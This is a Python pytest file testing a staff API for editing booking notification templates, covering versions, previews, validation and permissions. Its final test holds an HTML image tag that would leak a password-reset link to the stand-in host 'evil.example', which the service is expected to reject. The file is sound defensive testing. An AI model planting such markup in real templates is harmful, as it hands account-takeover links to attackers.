from collections.abc import Callable
from email.message import EmailMessage
from typing import Any

import pytest
from notifications.api import templates
from notifications.sending.sender import Sender
from shared.contracts.booking import BookingCreated
from shared.contracts.customers import AuditRecorded
from shared.http.identity import Caller
from shared.testing.service import RunningService, a_customer, a_staff_member

PATH = "/api/staff/notifications/templates/booking_received/"
SAM = a_staff_member("view_bookings", "manage_catalog")
Make = Callable[..., Any]


@pytest.fixture(autouse=True)
def time_to_check(monkeypatch: pytest.MonkeyPatch, patience: float) -> None:
    """No wording of these tests is refused because the machine was busy."""
    monkeypatch.setattr(templates, "CHECK_SECONDS", patience)


async def ask(
    service: RunningService, method: str, body: Any = None, caller: Caller = SAM, path: str = PATH
) -> tuple[int, Any]:
    async with service.as_caller(caller) as client:
        answer = await client.request(method, path, json=body)
        return answer.status_code, answer.json()


async def test_a_message_worded_anew_goes_out_so_and_ours_stays_for_the_rest(
    service: RunningService, sender: Sender, a_booking: Make, mails: Callable[[], list[EmailMessage]]
) -> None:
    status, answer = await ask(service, "PUT", {"subject": "Got it: {{ booking.number }}"})
    assert (status, answer["version"], answer["rewritten_parts"]) == (200, 1, ["subject"])
    await service.receive(BookingCreated(booking=a_booking()))
    await sender.send_batch()
    (mail,) = mails()
    assert mail["Subject"] == "Got it: TT-20260601-0042"
    assert "Thank you for booking" in mail.get_body(("plain",)).get_content()  # type: ignore[union-attr]


async def test_going_back_is_a_version_too(service: RunningService) -> None:
    await ask(service, "PUT", {"subject": "Got it"})
    status, answer = await ask(service, "DELETE")
    assert (status, answer["version"], answer["rewritten_parts"]) == (200, 2, [])
    assert answer["subject"].startswith("We have your booking")
    assert [entry["version"] for entry in answer["history"]] == [2, 1]
    audited = await service.events(AuditRecorded)
    assert [(entry.action_type, entry.staff_id) for entry in audited] == [("catalog_updated", SAM.id)] * 2  # type: ignore[attr-defined]


async def test_a_mistake_is_refused_with_its_line_and_the_reason(service: RunningService) -> None:
    body = {"text": "Hello\n{{ nobody }}", "html": "{% if %}", "sms": "Fine"}
    status, answer = await ask(service, "PUT", body)
    assert (status, set(answer["field_errors"])) == (400, {"text", "html"})
    assert answer["field_errors"]["text"] == ["Line 2: There is nothing named “nobody” here."]
    assert (await ask(service, "GET"))[1]["version"] == 0


@pytest.mark.parametrize("source", ["", "a\x00b", "\x1b[31m", "x" * 20_001, 7, ["x"]])
async def test_a_source_is_text_without_control_characters(service: RunningService, source: Any) -> None:
    status, answer = await ask(service, "PUT", {"sms": source})
    assert (status, list(answer["field_errors"])) == (400, ["sms"])


async def test_a_part_that_a_message_does_not_have_is_refused(service: RunningService) -> None:
    path = "/api/staff/notifications/templates/welcome/"
    status, answer = await ask(service, "PUT", {"sms": "Hello"}, path=path)
    assert (status, list(answer["field_errors"])) == (400, ["sms"])


async def test_who_was_slower_is_told(service: RunningService) -> None:
    assert (await ask(service, "PUT", {"subject": "One", "version": 0}))[0] == 200
    status, answer = await ask(service, "PUT", {"subject": "Two", "version": 0})
    assert (status, answer["error_code"], answer["version"]) == (409, "stale_version", 1)


async def test_a_wording_can_be_tried_without_keeping_it(service: RunningService) -> None:
    status, shown = await ask(service, "POST", {"subject": "Try {{ booking.total }}"}, path=f"{PATH}preview/")
    assert (status, shown["subject"]) == (200, "Try $5,466.38")
    assert shown["html"].startswith("<!doctype html>")
    assert shown["sms"].startswith("Tote Taxi: ")
    assert (await ask(service, "GET"))[1]["version"] == 0


async def test_what_is_tried_is_what_would_be_kept(service: RunningService) -> None:
    await ask(service, "PUT", {"subject": "Got it", "sms": "Got it"})
    body = {"text": "Hello {{ first_name }}"}
    _, tried = await ask(service, "POST", body, path=f"{PATH}preview/")
    await ask(service, "PUT", body)
    assert (await ask(service, "GET", path=f"{PATH}preview/"))[1] == tried
    assert tried["subject"].startswith("We have your booking")


async def test_a_wording_that_fails_with_real_data_does_not_lose_the_message(
    service: RunningService, sender: Sender, a_booking: Make, mails: Callable[[], list[EmailMessage]]
) -> None:
    assert (await ask(service, "PUT", {"subject": "{{ booking.delivery[2] }}"}))[0] == 400
    assert (await ask(service, "PUT", {"subject": "{{ booking.pickup[2] | upper }}"}))[0] == 200
    address = a_booking().pickup_address.model_copy(update={"address_line_2": ""})
    await service.receive(BookingCreated(booking=a_booking(pickup_address=address)))
    await sender.send_batch()
    assert [mail["Subject"] for mail in mails()] == ["We have your booking TT-20260601-0042: please pay to secure it"]


@pytest.mark.parametrize(
    ("caller", "expected"), [(Caller(), 401), (a_customer(), 403), (a_staff_member("view_bookings"), 403)]
)
@pytest.mark.parametrize("method", ["PUT", "DELETE"])
async def test_only_who_manages_the_catalogue_words_messages(
    service: RunningService, caller: Caller, expected: int, method: str
) -> None:
    body = {"subject": "x"} if method == "PUT" else None
    assert (await ask(service, method, body, caller))[0] == expected


@pytest.mark.parametrize("kind", ["password_reset", "verify_email", "staff_invitation"])
async def test_messages_that_open_accounts_are_worded_by_who_manages_staff(service: RunningService, kind: str) -> None:
    path, admin = f"/api/staff/notifications/templates/{kind}/", a_staff_member("manage_catalog", "manage_staff")
    body = {"subject": "Your link"}
    for method, sent in (("PUT", body), ("DELETE", None)):
        assert (await ask(service, method, sent, path=path))[0] == 403
        assert (await ask(service, method, sent, admin, path))[0] == 200


async def test_not_even_they_put_a_link_where_it_is_kept_or_told_to_others(service: RunningService) -> None:
    path, admin = "/api/staff/notifications/templates/password_reset/", a_staff_member("manage_catalog", "manage_staff")
    body = {"subject": "Reset {{ link }}", "html": '<img src="https://evil.example/?{{ link }}">'}
    status, answer = await ask(service, "PUT", body, admin, path)
    assert (status, set(answer["field_errors"])) == (400, {"subject", "html"})
